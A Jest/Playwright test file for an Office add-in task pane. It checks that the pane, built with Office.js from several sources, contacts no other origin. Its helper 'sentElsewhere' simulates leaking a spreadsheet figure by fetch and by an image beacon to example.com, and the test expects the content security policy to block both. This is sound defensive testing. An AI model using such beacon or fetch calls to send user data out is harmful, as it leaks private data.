import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { openPage } from "./browser";
import { describeInWorkbench } from "./workbenchPage";

interface OfficeFrom {
  readonly script: string;
  readonly origins: string;
}

const { officeFrom, withOwnScript, OWN_SCRIPT } = jest.requireActual<{
  officeFrom(option?: string): OfficeFrom;
  withOwnScript(page: string, from: OfficeFrom): string;
  OWN_SCRIPT: string;
}>("../../scripts/office.cjs");

const BUILT = join(__dirname, "../../dist/workbench");
const POLICY = "'wasm-unsafe-eval'";

/** The page as the build makes it for an option, from the one that is built for the workbench. */
function pageFor(from: OfficeFrom): string {
  const built = readFileSync(join(BUILT, "taskpane.html"), "utf8");
  const page = built.replace(OWN_SCRIPT, from.script).replace(POLICY, `${POLICY}${from.origins}`);
  expect(withOwnScript(page, from)).toBe(built);
  return page;
}

/** Office.js as it comes from another host: the workbench's stand-in, so that the pane does all its work. */
async function serveOffice(page: Page, { script, origins }: OfficeFrom): Promise<void> {
  if (origins === "") return;
  const folder = new URL(".", script).href;
  await page.route(`${folder}**`, (route) =>
    route.fulfill({
      path: join(BUILT, "office", route.request().url().slice(folder.length)),
      contentType: "text/javascript",
    }),
  );
}

const folder = mkdtempSync(join(tmpdir(), "gouji-office-"));
writeFileSync(join(folder, "office.js"), "");
afterAll(() => rmSync(folder, { recursive: true }));

describeInWorkbench("the pane in a browser", (workbench) => {
  test.each<[string, string, string | undefined]>([
    ["npm", "npm", undefined],
    ["a folder", folder, undefined],
    ["cdn", "cdn", "https://appsforoffice.microsoft.com"],
    ["cdn-cn", "cdn-cn", "https://appsforoffice.cdn.partner.office365.cn"],
  ])("built with office.js from %s asks nobody else for anything", async (_name, option, cdn) => {
    const from = officeFrom(option);
    const { page, complaints } = await openPage(workbench.browser, { width: 1280, height: 800 });
    const html = pageFor(from);
    await page.route("**/taskpane.html*", (route) => route.fulfill({ body: html, contentType: "text/html" }));
    await serveOffice(page, from);
    await page.goto(workbench.address);
    const check = page.locator("#ribbon").getByRole("button", { name: /^校验全部/ });
    await check.and(page.locator(":enabled")).waitFor();
    await check.click();
    const pane = page.frameLocator("#pane iframe");
    await pane.getByText("14 张表 ·").waitFor();
    for (const tab of await pane.getByRole("tab").all()) await tab.click();
    await pane.getByRole("tab", { name: "校验" }).click();
    await pane.getByRole("button", { name: "列出要改的数" }).click();
    await pane.getByText(/消除 20 处尾差/).waitFor();

    const asked = new Set(complaints.requestsElsewhere.map((address) => new URL(address).origin));
    expect([...asked]).toEqual(cdn === undefined ? [] : [cdn]);
    expect(complaints.errors).toEqual([]);
    expect(await sentElsewhere(page, cdn)).toEqual(["blocked", "blocked", "blocked"]);
    await page.close();
  });
});

/** What becomes of figures that a script of the pane would send: to anywhere, to where Office.js comes from, in a picture. */
async function sentElsewhere(page: Page, cdn = "https://appsforoffice.microsoft.com"): Promise<string[]> {
  const frame = page.frames().find((one) => one.url().includes("taskpane.html"));
  if (!frame) throw new Error("the pane is not on the page");
  return frame.evaluate(async (other) => {
    const send = (address: string) =>
      fetch(address).then(
        () => "sent",
        () => "blocked",
      );
    const picture = new Promise<string>((resolve) => {
      addEventListener("securitypolicyviolation", ({ violatedDirective }) => {
        if (violatedDirective === "img-src") resolve("blocked");
      });
      const image = new Image();
      image.onload = () => resolve("sent");
      image.src = "https://example.com/collect.png?figure=1890.17";
    });
    return [await send("https://example.com/collect"), await send(`${other}/collect`), await picture];
  }, cdn);
}
